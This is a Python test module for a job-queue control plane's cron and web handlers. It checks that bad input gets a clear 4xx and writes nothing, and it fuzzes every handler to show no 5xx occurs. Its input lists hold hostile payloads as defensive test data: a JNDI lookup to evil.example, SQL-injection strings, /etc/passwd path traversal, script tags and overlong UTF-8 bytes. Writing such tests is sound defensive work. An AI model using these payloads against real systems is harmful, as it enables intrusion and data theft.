"""Bad input: malformed and pathological cron expressions and time zones wherever entries
are created, entries stored around the validation, huge and binary reasons, ids that are
not ids, oversized addresses and bodies. Each gets a clear 4xx (or a clear error for the
Python API) and writes nothing. Property-based tests then throw generated input at every
query, path, form and JSON handler: no 5xx, ever.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from oban_powertools import Powertools
from oban_powertools.actions import all_actions
from oban_powertools.cron.declarations import clear_declarations, declare, declared
from oban_powertools.cron.entries import CronEntryError, CronEntrySpec
from oban_powertools.cron.expression import CronExpression
from oban_powertools.cron.firing import next_fire
from oban_powertools.cron.timezones import load_timezone
from oban_powertools.errors import ConfigError, CronExpressionError, CronTimezoneError
from oban_powertools.runtime import Runtime
from oban_powertools.runtime.scheduler import CronScheduler
from tests.hostile.world import (
    OPERATOR,
    assert_security_headers,
    changed,
    client,
    csrf_for,
    fingerprint,
    seed_markers,
    succeeded,
    token_in,
)
from tests.web.helpers import MOUNT, host_app

USER = OPERATOR.username

PATHOLOGICAL_EXPRESSIONS = [
    "",
    " \t\n ",
    "* * * *",
    "* * * * * *",
    "*" * 257,
    "60 * * * *",
    "* 24 * * *",
    "* * 0 * *",
    "* * 32 * *",
    "* * * 13 *",
    "* * * * 8",
    "*/0 * * * *",
    "*/61 * * * *",
    "5-1 * * * *",
    "0 0 31 2 *",  # never happens
    "0 0 30,31 2 *",
    "0 0 * * MON-SUN",  # reversed (SUN is 0)
    "0 0 * JAN-DEC/13 *",
    "1" * 250 + " * * * *",
    "*/" + "9" * 240 + " * * * *",
    ",".join(["1"] * 101) + " * * * *",  # more list items than allowed
    ",".join(["1-59/1"] * 101) + " * * * *",
    "1,,2 * * * *",
    "-1 * * * *",
    "1- * * * *",
    "1-2-3 * * * *",
    "1/2/3 * * * *",
    "@every 5m",
    "@reboot",
    "@HOURLYX",
    "\x00 * * * *",
    "٣ * * * *",  # Arabic-Indic digit
    "１ * * * *",  # fullwidth digit
    "0\u00a00 * * *",  # no-break space is not a separator
    "${jndi:ldap://evil.example/a} * * * *",
    "'; DROP TABLE oban_jobs; -- * * * *",
    "<script> * * * *",
    "a" * 256,
]
BAD_TIME_ZONES = [
    "",
    "Mars/Olympus_Mons",
    "../../../../etc/passwd",
    "/etc/localtime",
    "Europe/Berlin/../../../etc/passwd",
    "Etc/UTC\x00",
    "Etc/GMT+99",
    "A" * 65,
    "Europe\\Berlin",
    "Europe/Berlin ",
    "<script>",
    "UTC; DROP TABLE x",
]


@pytest.mark.timeout(20)  # a guard against a hang, not a measurement
def test_pathological_expressions_and_zones_are_rejected_wherever_entries_are_made() -> None:
    tried = 0
    for text in PATHOLOGICAL_EXPRESSIONS:
        with pytest.raises(CronExpressionError):
            CronExpression.parse(text)
        # The entry creation path (code declarations and runtime entries alike).
        with pytest.raises((CronExpressionError, CronEntryError)):
            CronEntrySpec(name="e", worker="app.W", expression=text, source="runtime")
        tried += 2
    for zone in BAD_TIME_ZONES:
        with pytest.raises(CronTimezoneError):
            load_timezone(zone)
        with pytest.raises(CronTimezoneError):
            CronEntrySpec(name="e", worker="app.W", expression="* * * * *", timezone=zone)
        tried += 2
    # Rare but valid schedules are accepted, and their next run is found (Feb 29 on a
    # Monday is up to 28 years away).
    from datetime import UTC, datetime

    rare = CronExpression.parse("0 0 29 2 1")
    found = next_fire(rare, load_timezone("Etc/UTC"), datetime(2025, 1, 1, tzinfo=UTC))
    assert found == datetime(2044, 2, 29, tzinfo=UTC)
    assert tried == 2 * (len(PATHOLOGICAL_EXPRESSIONS) + len(BAD_TIME_ZONES))


def test_declarations_and_the_scheduler_timezone_option_refuse_bad_input(db_url: str) -> None:
    from tests.support.seams import make_powertools

    clear_declarations()
    try:
        with pytest.raises(CronExpressionError):
            declare(CronEntrySpec(name="x", worker="app.W", expression="*/0 * * * *"))
        with pytest.raises(CronTimezoneError):
            declare(CronEntrySpec(name="x", worker="app.W", expression="* * * * *", timezone="X/Y"))
        assert declared() == []  # refused while building the spec: nothing registered
    finally:
        clear_declarations()
    runtime = Runtime(make_powertools(db_url), declarations=[], import_oban_cron=False)

    class Leader:
        is_leader = False

    for zone in ("Mars/Olympus_Mons", "../../etc/passwd"):
        with pytest.raises(ConfigError, match="scheduler.timezone"):
            runtime.build_scheduler({"timezone": zone}, leader=Leader(), node="n", prefix="public")
        assert runtime.scheduler is None


async def test_entries_stored_around_validation_break_no_page_and_no_schedule(
    pt: Powertools, conn: Any
) -> None:
    """A row written by hand (or by an older version) with an impossible schedule."""
    await seed_markers(conn)
    for name, expression, zone in (
        ("bad_expression", "*/0 * * * *", "Etc/UTC"),
        ("bad_zone", "* * * * *", "Mars/Olympus_Mons"),
        ("path_zone", "* * * * *", "../../../../etc/passwd"),
    ):
        await conn.execute(
            "INSERT INTO powertools_cron_entries (name, source, worker, expression, timezone) "
            "VALUES (%s, 'runtime', 'app.W', %s, %s)",
            (name, expression, zone),
        )
    await conn.execute(
        "INSERT INTO powertools_cron_entries (name, source, worker, expression) "
        "VALUES ('good', 'runtime', 'app.W', '* * * * *')"
    )
    app = host_app(pt)
    async with client(app, USER) as ops:
        for path in (
            "/",
            "/cron",
            "/cron/bad_expression",
            "/cron/bad_zone",
            "/cron/path_zone",
            "/forensics?resource_type=cron_entry&resource_id=bad_zone",
            "/forensics/bundle.json?resource_type=cron_entry&resource_id=bad_expression",
        ):
            response = await ops.get(MOUNT + path)
            assert response.status_code == 200, (path, response.text[:300])
        # Acting on it still works (pausing it is how an operator stops the noise).
        panel = await ops.post(
            f"{MOUNT}/actions/preview",
            data={"csrf_token": csrf_for(USER), "action": "pause_cron_entry", "target": "bad_zone"},
        )
        assert panel.status_code == 200

    from datetime import UTC, datetime

    class Leader:
        is_leader = True

    scheduler = CronScheduler(pt.db, leader=Leader(), node="n")
    evaluation = await scheduler.evaluate(now=datetime(2031, 1, 1, 10, 0, 5, tzinfo=UTC))
    assert evaluation.enqueued >= 1  # the good entry fired; the bad ones were skipped
    cur = await conn.execute(
        "SELECT entry_name, outcome FROM powertools_cron_slots "
        "WHERE entry_name IN ('good', 'bad_expression', 'bad_zone', 'path_zone')"
    )
    assert await cur.fetchall() == [{"entry_name": "good", "outcome": "enqueued"}]


async def test_huge_binary_and_malformed_reasons_are_refused_and_keep_the_preview(
    pt: Powertools, conn: Any
) -> None:
    await seed_markers(conn)
    app = host_app(pt)
    async with client(app, USER) as ops:
        panel = await ops.post(
            f"{MOUNT}/actions/preview",
            data={
                "csrf_token": csrf_for(USER),
                "action": "pause_cron_entry",
                "target": "nightly_sync",
            },
        )
        token = token_in(panel.text)
        before = await fingerprint(conn)
        csrf = csrf_for(USER).encode()
        form_bodies = {
            "over the length limit": {"reason": "x" * 1001},
            "almost a megabyte": {"reason": "y" * 1_000_000},
            "NUL": {"reason": "stop\x00it now"},
            "terminal escapes": {"reason": "\x1b[31mred alert\x1b[0m"},
            "bell and backspace": {"reason": "ding\x07\x08\x08"},
            "only whitespace": {"reason": " \t\n "},
            "missing": {},
        }
        tried = 0
        for name, extra in form_bodies.items():
            response = await ops.post(
                f"{MOUNT}/actions/confirm",
                data={"csrf_token": csrf.decode(), "token": token, **extra},
            )
            tried += 1
            assert response.status_code == 400, (name, response.status_code)
            assert f'name="token" value="{token}"' in response.text, name  # still ready
        for raw in (b"%FF" * 20, b"%ED%A0%80abcdef", b"%C0%AF%C0%AFslash"):
            body = b"csrf_token=" + csrf + b"&token=" + token.encode() + b"&reason=" + raw
            response = await ops.post(
                f"{MOUNT}/actions/confirm",
                content=body,
                headers={"content-type": "application/x-www-form-urlencoded"},
            )
            tried += 1
            assert response.status_code == 400, (raw, response.status_code)
            assert "not text" in response.text
        # Two megabytes in one field: the form parser refuses the field; five in the
        # body: refused from the declared length before anything is read.
        for size, status in ((2 * 1024 * 1024, 400), (5 * 1024 * 1024, 413)):
            huge = await ops.post(
                f"{MOUNT}/actions/confirm",
                data={"csrf_token": csrf.decode(), "token": token, "reason": "z" * size},
            )
            tried += 1
            assert huge.status_code == status, size
            assert_security_headers(huge)
        api_bodies: list[bytes] = [
            json.dumps({"token": token, "reason": "x" * 1001}).encode(),
            json.dumps({"token": token, "reason": "tab\tok but \x00 not"}).encode(),
            json.dumps({"token": token, "reason": ["a list"]}).encode(),
            json.dumps({"token": token, "reason": 12345}).encode(),
            b'{"token": "%s", "reason": "lone \\ud800 surrogate"}' % token.encode(),
            b'{"token": "%s", "reason": "\\udfff\\ud800"}' % token.encode(),
            b"[" * 200_000,
            b'{"a":' * 100_000,
            b'{"token": "' + token.encode() + b'", "reason": "\xff\xfe binary"}',
            b"\x00\x01\x02\x03",
            b"",
            b'{"token": "' + token.encode() + b'", "reason": "' + b"w" * (3 * 1024 * 1024) + b'"}',
        ]
        for body in api_bodies:
            response = await ops.post(
                f"{MOUNT}/api/actions/confirm",
                content=body,
                headers={"content-type": "application/json"},
            )
            tried += 1
            assert 400 <= response.status_code < 500, (body[:60], response.status_code)
            assert "error" in response.json()
        assert changed(before, await fingerprint(conn)) == []
        assert tried == len(form_bodies) + 3 + 2 + len(api_bodies)
        ok = await ops.post(
            f"{MOUNT}/actions/confirm",
            data={"csrf_token": csrf.decode(), "token": token, "reason": "a fine reason"},
        )
        assert ok.status_code == 303


NOT_IDS = [
    "0",
    "-1",
    "1e3",
    "0x10",
    "1 2",
    "１",
    "٣",
    "1.0",
    "+1",
    "9223372036854775808",  # one past PostgreSQL's bigint
    "99999999999999999999999999",
    "00000000000000000000001",
    "NaN",
    "null",
    "%20",
]


async def test_ids_that_are_not_ids_are_clear_4xx(pt: Powertools, conn: Any) -> None:
    seeded = await seed_markers(conn)
    app = host_app(pt)
    before = await fingerprint(conn)
    tried = 0
    async with client(app, USER) as ops:
        for raw in NOT_IDS:
            segment = quote(raw, safe="")
            for path in (f"/jobs/{segment}", f"/audit/{segment}", f"/actions/results/{segment}"):
                response = await ops.get(MOUNT + path)
                tried += 1
                assert response.status_code == 404, (path, response.status_code)
            for page in ("/jobs", "/audit"):
                response = await ops.get(MOUNT + page, params={"before": raw})
                tried += 1
                assert response.status_code == 400, (page, raw, response.status_code)
                assert "before must be" in response.text
            for action in ("retry_job", "cancel_job", "discard_job"):
                response = await ops.post(
                    f"{MOUNT}/api/actions/preview", json={"action": action, "targets": [raw]}
                )
                tried += 1
                assert response.status_code in (400, 404), (action, raw, response.text)
        for targets in ([1.5], [True], [None], [[1]], [{"id": 1}], "1,2", [2**70]):
            response = await ops.post(
                f"{MOUNT}/api/actions/preview", json={"action": "retry_job", "targets": targets}
            )
            tried += 1
            assert response.status_code in (400, 404), (targets, response.text)
        # A real id still works: the refusals above were about the input, not the route.
        assert (await ops.get(f"{MOUNT}/jobs/{seeded.jobs['retryable']}")).status_code == 200
    assert changed(before, await fingerprint(conn)) == []
    assert tried == len(NOT_IDS) * 8 + 7


async def test_oversized_addresses_and_bodies_are_refused_before_any_work(
    pt: Powertools, conn: Any
) -> None:
    await seed_markers(conn)
    app = host_app(pt)
    before = await fingerprint(conn)
    async with client(app, USER) as ops:
        long_query = "q=" + "a" * 9000
        for path in ("/jobs", "/audit", "/forensics", "/cron"):
            response = await ops.get(f"{MOUNT}{path}?{long_query}")
            assert response.status_code == 414, path
            assert "too long" in response.text
            assert_security_headers(response)
        api = await ops.get(f"{MOUNT}/api/previews/x?{long_query}")
        assert api.status_code == 414 and api.json()["error"]["code"] == "uri_too_long"
        many = "&".join(f"k{i}=v" for i in range(700))  # many keys, within the limit
        assert (await ops.get(f"{MOUNT}/jobs?{many}")).status_code == 200
        for path in ("/actions/preview", "/actions/confirm"):
            big = await ops.post(MOUNT + path, content=b"a=" + b"b" * (5 * 1024 * 1024))
            assert big.status_code == 413, path
            assert_security_headers(big)

        async def chunks() -> Any:
            # Fields under the form parser's own limits (1000 fields, 1 MiB each), 5.3 MiB
            # in all: only the body limit can refuse it.
            for i in range(6):
                yield b"f%d=" % i + b"x" * (900 * 1024) + b"&"

        # Without a declared length the body is cut off at the limit, not buffered.
        streamed = await ops.post(
            f"{MOUNT}/actions/preview",
            content=chunks(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert streamed.status_code == 413
        api_big = await ops.post(
            f"{MOUNT}/api/actions/preview",
            content=b'{"action": "' + b"x" * (3 * 1024 * 1024) + b'"}',
            headers={"content-type": "application/json"},
        )
        assert api_big.status_code == 413 and api_big.json()["error"]["code"] == "too_large"
        for nul in ("/cron/a%00b", "/jobs?worker=a%00b", "/audit?actor=%00"):
            response = await ops.get(MOUNT + nul)
            assert response.status_code == 400, nul
    assert changed(before, await fingerprint(conn)) == []


# -- properties ---------------------------------------------------------------------------

PROPERTY = settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
# What a browser or a script can put in a URL or a form: any text but lone surrogates.
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=300)
WILD = st.one_of(
    TEXT,
    st.sampled_from(
        ["", " ", "0", "-1", "9" * 25, "nightly_sync", "%", "'", "\x00", "∞", "\u202e"]
    ),
)
FILTER_KEYS = [
    "state",
    "queue",
    "worker",
    "tag",
    "q",
    "name",
    "steps_from",
    "before",
    "resource_type",
    "resource_id",
    "action",
    "actor",
    "outcome",
    "since",
    "until",
    "x",
]
PAGES = [
    "/",
    "/cron",
    "/queues",
    "/jobs",
    "/workflows",
    "/audit",
    "/forensics",
    "/forensics/bundle.json",
    "/chains",
    "/batches",
]
PATHS = [
    "/cron/{}",
    "/jobs/{}",
    "/workflows/{}",
    "/audit/{}",
    "/actions/results/{}",
    "/api/previews/{}",
    "/chains/{}",
    "/batches/{}",
]
ACTIONS = sorted(a.name for a in all_actions())
TARGETS = st.one_of(WILD, st.sampled_from(["nightly_sync", "marker_queue", "1", "2", "3"]))


def direct(pt: Powertools) -> httpx.AsyncClient:
    """The control plane without a host around it (mounted at MOUNT by root_path): a
    host's own router may not route odd paths (a Starlette Mount does not match a path
    holding a newline) and would answer for itself; here every request reaches the plane."""
    transport = httpx.ASGITransport(app=pt.asgi_app(), root_path=MOUNT)
    return httpx.AsyncClient(
        transport=transport,
        base_url="http://testserver",
        headers={"origin": "http://testserver", "x-test-user": USER},
    )


def no_server_error(response: httpx.Response, what: object) -> None:
    assert response.status_code < 500, (what, response.status_code, response.text[:300])
    assert_security_headers(response)


@PROPERTY
@given(page=st.sampled_from(PAGES), query=st.dictionaries(st.sampled_from(FILTER_KEYS), WILD))
async def test_property_query_handlers_never_fail(
    pt: Powertools, conn: Any, page: str, query: dict[str, str]
) -> None:
    async with direct(pt) as ops:
        no_server_error(await ops.get(MOUNT + page, params=query), (page, query))


@PROPERTY
@given(template=st.sampled_from(PATHS), value=WILD.filter(bool))
async def test_property_path_parameters_never_fail(
    pt: Powertools, conn: Any, template: str, value: str
) -> None:
    async with direct(pt) as ops:
        response = await ops.get(MOUNT + template.format(quote(value, safe="")))
        no_server_error(response, (template, value))


@PROPERTY
@given(
    action=st.one_of(st.sampled_from(ACTIONS), WILD),
    targets=st.lists(TARGETS, max_size=4),
    params=st.dictionaries(st.sampled_from(["limit", "expires_in_minutes", "x"]), WILD, max_size=2),
    return_to=WILD,
    htmx=st.booleans(),
)
async def test_property_preview_form_never_fails(
    pt: Powertools,
    conn: Any,
    action: str,
    targets: list[str],
    params: dict[str, str],
    return_to: str,
    htmx: bool,
) -> None:
    form: dict[str, Any] = {
        "csrf_token": csrf_for(USER),
        "action": action,
        "target": targets,
        "return_to": return_to,
        **{f"param.{k}": v for k, v in params.items()},
    }
    headers = {"hx-request": "true", "hx-target": "action-panel"} if htmx else {}
    async with direct(pt) as ops:
        response = await ops.post(f"{MOUNT}/actions/preview", data=form, headers=headers)
        no_server_error(response, form)


@PROPERTY
@given(
    token=WILD,
    reason=st.one_of(WILD, st.text(st.characters(exclude_categories=("Cs",)), max_size=2000)),
)
async def test_property_confirm_form_never_fails_and_never_applies(
    pt: Powertools, conn: Any, token: str, reason: str
) -> None:
    async with direct(pt) as ops:
        form = {"csrf_token": csrf_for(USER), "token": token, "reason": reason}
        no_server_error(await ops.post(f"{MOUNT}/actions/confirm", data=form), form)
    assert await succeeded(conn) == []


JSON_VALUES = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=50),  # lone surrogates included: JSON can escape them
        st.sampled_from(ACTIONS + ["nightly_sync", "1"]),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)
    ),
    max_leaves=12,
)


@PROPERTY
@given(
    endpoint=st.sampled_from(["preview", "confirm"]),
    body=st.one_of(
        st.fixed_dictionaries(
            {"action": JSON_VALUES, "targets": JSON_VALUES},
            optional={"params": JSON_VALUES, "token": JSON_VALUES, "reason": JSON_VALUES},
        ),
        JSON_VALUES,
    ),
)
async def test_property_json_api_never_fails(
    pt: Powertools, conn: Any, endpoint: str, body: Any
) -> None:
    async with direct(pt) as ops:
        response = await ops.post(
            f"{MOUNT}/api/actions/{endpoint}",
            content=json.dumps(body).encode(),
            headers={"content-type": "application/json"},
        )
        no_server_error(response, body)
        assert response.headers["content-type"] == "application/json"


@PROPERTY
@given(raw=st.binary(max_size=400))
async def test_property_raw_bodies_never_fail(pt: Powertools, conn: Any, raw: bytes) -> None:
    async with direct(pt) as ops:
        for path, kind in (
            ("/api/actions/preview", "application/json"),
            ("/api/actions/confirm", "application/json"),
            ("/actions/preview", "application/x-www-form-urlencoded"),
            ("/actions/confirm", "application/x-www-form-urlencoded"),
        ):
            response = await ops.post(MOUNT + path, content=raw, headers={"content-type": kind})
            no_server_error(response, (path, raw))
